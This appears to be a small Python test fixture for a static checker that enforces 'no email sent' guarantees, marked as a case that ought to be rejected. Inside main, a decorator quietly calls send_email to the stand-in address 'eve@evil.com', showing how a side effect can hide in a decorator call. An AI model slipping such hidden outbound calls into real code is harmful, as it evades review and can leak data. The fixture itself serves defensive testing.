# rejected: decorators inside main are calls too
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, log


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    def shout(f):
        send_email("eve@evil.com", "x")
        return f

    @shout
    def inner():
        log("fine")
